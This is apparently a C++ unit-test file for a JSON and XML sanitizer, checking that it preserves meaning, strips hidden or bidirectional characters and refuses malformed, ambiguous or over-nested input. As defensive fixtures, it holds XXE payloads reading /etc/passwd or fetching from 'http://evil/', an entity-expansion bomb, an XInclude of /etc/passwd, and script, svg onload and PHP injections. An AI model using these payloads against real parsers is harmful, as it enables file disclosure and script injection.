// SPDX-License-Identifier: GPL-3.0-or-later
// JSON and XML: what leaves is read back by Python's own parsers.
#include "support/python.hpp"
#include "tried.hpp"

namespace sekisho::sanitize::text {
namespace {

std::string nested(std::string_view open, std::string_view close, std::size_t levels) {
  std::string made;
  for (std::size_t i = 0; i < levels; ++i) {
    made += open;
  }
  for (std::size_t i = 0; i < levels; ++i) {
    made += close;
  }
  return made;
}

TEST(Json, SaysTheSameAndKeepsSpellingsOfNumbers) {
  const std::string text =
      R"({"名前":"①㈱髙 \"q\" \\ / \n\t \u3042 \ud83d\ude00","n":[1,-0.50,1E+9,12345678901234567890123],"e":{},"a":[],"b":[true,false,null]})";

  const std::string made = tried(Type::Json, text).text();

  constexpr std::string_view kLoad = "import json,sys; print(json.loads(sys.stdin.read()))";
  EXPECT_EQ(python(kLoad, made), python(kLoad, text));
  EXPECT_NE(made.find("-0.50,\n"), std::string::npos) << made;
  EXPECT_NE(made.find("12345678901234567890123"), std::string::npos) << made;
  EXPECT_EQ(tried(Type::Json, "[]").text(), "[]\n");
}

TEST(Json, LosesControlAndBidirectionalCharactersOfStrings) {
  EXPECT_EQ(tried(Type::Json, R"(["a\u0000b\u202ec\u001b[31md\u009f"])").text(),
            "[\n  \"abcd\"\n]\n");
}

TEST(Json, RefusesWhatReadersDifferIn) {
  EXPECT_EQ(tried(Type::Json, R"({"a":1,"\u0061":2})").refused().substr(0, 10), "ambiguous:");
  EXPECT_EQ(tried(Type::Json, "{\"a\":1,\"a\u200e\":2}").refused().substr(0, 10), "ambiguous:");
  for (const std::string_view text : {"{} x", "{}{}", "[1,]", "{'a':1}", "[01]", "[+1]", "// c\n[]",
                                      "[NaN]", "[\"\t\"]", "", "[1", "\"\\ud800\"", "[.5]"}) {
    EXPECT_EQ(tried(Type::Json, text).refused().substr(0, 10), "malformed:") << text;
  }
  EXPECT_EQ(tried(Type::Json, nested("[", "]", 65)).refused(),
            "nested_too_deep: more than 64 levels");
  EXPECT_EQ(tried(Type::Json, nested("[", "]", 1'000'000)).refused(),
            "nested_too_deep: more than 64 levels");
}

std::string xml(std::string_view content) {
  return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<r" + std::string{content} + "</r>\n";
}

TEST(Xml, SaysTheSame) {
  const std::string text =
      "<?xml version='1.0' encoding='UTF-8'?><申請 xmlns='urn:a' xmlns:p='urn:b' p:年='令和8' "
      "q=\"a&quot;'&#10;b\">"
      "<p:氏名>髙田 ㈱ &lt;&amp;&#x3042;</p:氏名><![CDATA[<b>&]]>\r\n<空/> tail </申請>";

  const std::string made = tried(Type::Xml, text).text();

  constexpr std::string_view kLoad =
      "import sys,xml.etree.ElementTree as E\n"
      "print([(e.tag,e.text,e.tail,sorted(e.items())) for e in "
      "E.fromstring(sys.stdin.buffer.read()).iter()])";
  EXPECT_EQ(python(kLoad, made), python(kLoad, text));
  EXPECT_EQ(made.find("CDATA"), std::string::npos);
}

TEST(Xml, ReadsTheEncodingThatItDeclares) {
  EXPECT_EQ(
      tried(Type::Xml, "<?xml version=\"1.0\" encoding=\"Shift_JIS\"?><r>\x87\x40\x82\xa0</r>")
          .text(),
      xml(">①あ"));
  EXPECT_EQ(tried(Type::Xml, std::string{"\xff\xfe<\0r\0>\0B0<\0/\0r\0>\0", 18}).text(),
            xml(">あ"));
}

TEST(Xml, RefusesDocumentTypesWhateverIsInThem) {
  for (const std::string_view type :
       {"<!DOCTYPE r>", "<!DOCTYPE r SYSTEM \"file:///etc/passwd\">",
        "<!DOCTYPE r [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>",
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil/\"> %p;]>"}) {
    EXPECT_EQ(tried(Type::Xml, std::string{type} + "<r>&x;</r>").refused(),
              "ambiguous: line 1: document type declaration")
        << type;
  }
  EXPECT_EQ(tried(Type::Xml, "<r>&x;</r>").refused(), "malformed: line 1: undefined entity");
}

TEST(Xml, LosesWhatActsOrRefersElsewhere) {
  const Tried result = tried(
      Type::Xml,
      "<?xml-stylesheet href='http://evil/x.xsl' type='text/xsl'?><!-- secret -->"
      "<r xmlns:i='http://www.w3.org/2001/XMLSchema-instance' i:schemaLocation='http://evil x' "
      "i:noNamespaceSchemaLocation='http://evil' i:type='t' "
      "xmlns:x='http://www.w3.org/2001/XInclude' "
      "xmlns:h='http://www.w3.org/1999/xhtml' xmlns:s='http://www.w3.org/2000/svg'>"
      "<x:include href='file:///etc/passwd'><x:fallback>f</x:fallback></x:include>"
      "<h:script>alert(1)</h:script><s:svg onload='alert(2)'><k/></s:svg><?php echo 1 ?>ok</r>");

  for (const std::string_view gone :
       {"evil", "secret", "passwd", "alert", "php", "fallback", "script"}) {
    EXPECT_EQ(result.text().find(gone), std::string::npos) << gone << " in " << result.text();
  }
  EXPECT_NE(result.text().find("i:type=\"t\""), std::string::npos) << result.text();
  EXPECT_NE(result.text().find(">ok</r>"), std::string::npos) << result.text();
  for (const Action action : {Action::RemovedAction, Action::RemovedHidden, Action::RemovedExternal,
                              Action::RemovedScript}) {
    EXPECT_TRUE(result.did(action)) << word_of(action).code;
  }
}

TEST(Xml, RefusesRootsThatAreDocumentsOfTheirOwn) {
  for (const std::string_view uri : {"http://www.w3.org/1999/xhtml", "http://www.w3.org/2000/svg",
                                     "http://www.w3.org/1999/XSL/Transform",
                                     "http://schemas.microsoft.com/office/word/2003/wordml",
                                     "urn:schemas-microsoft-com:office:spreadsheet",
                                     "http://schemas.microsoft.com/office/2006/xmlPackage",
                                     "urn:oasis:names:tc:opendocument:xmlns:office:1.0"}) {
    const Tried result = tried(Type::Xml, "<r xmlns='" + std::string{uri} + "'/>");
    EXPECT_EQ(result.refused().substr(0, 17), "unsupported_type:") << uri;
  }
}

TEST(Xml, RefusesWhatIsNotWellFormedAndWhatHasNoBounds) {
  for (const std::string_view text :
       {"<r a='1' a='2'/>", "<r><s></r>", "<r/><r/>", "", "text", "<r>\x01</r>", "<r>\xff</r>",
        "<?xml version='1.0' encoding='UTF-7'?><r/>", "<?xml version='1.0' encoding='IBM037'?><r/>",
        "<?xml version='1.0' encoding='UTF-16'?><r/>", "\x4c\x6f\xa7\x94\x93"}) {
    EXPECT_EQ(tried(Type::Xml, text).refused().substr(0, 10), "malformed:") << text;
  }
  EXPECT_EQ(tried(Type::Xml, "\xef\xbb\xbf<?xml version='1.0' encoding='Shift_JIS'?><r/>")
                .refused()
                .substr(0, 10),
            "ambiguous:");
  EXPECT_EQ(tried(Type::Xml, nested("<a>", "</a>", 257)).refused(),
            "nested_too_deep: line 1: more than 256 levels");
  std::string attributes = "<r";
  for (int i = 0; i < 257; ++i) {
    attributes += " a" + std::to_string(i) + "='1'";
  }
  EXPECT_EQ(tried(Type::Xml, attributes + "/>").refused().substr(0, 17), "too_many_entries:");
}

TEST(Xml, LosesBidirectionalCharacters) {
  EXPECT_EQ(tried(Type::Xml, "<r a='x\u202ey'>x\u202ey&#x202e;&#13;z</r>").text(),
            xml(" a=\"xy\">xy\nz"));
}

}  // namespace
}  // namespace sekisho::sanitize::text
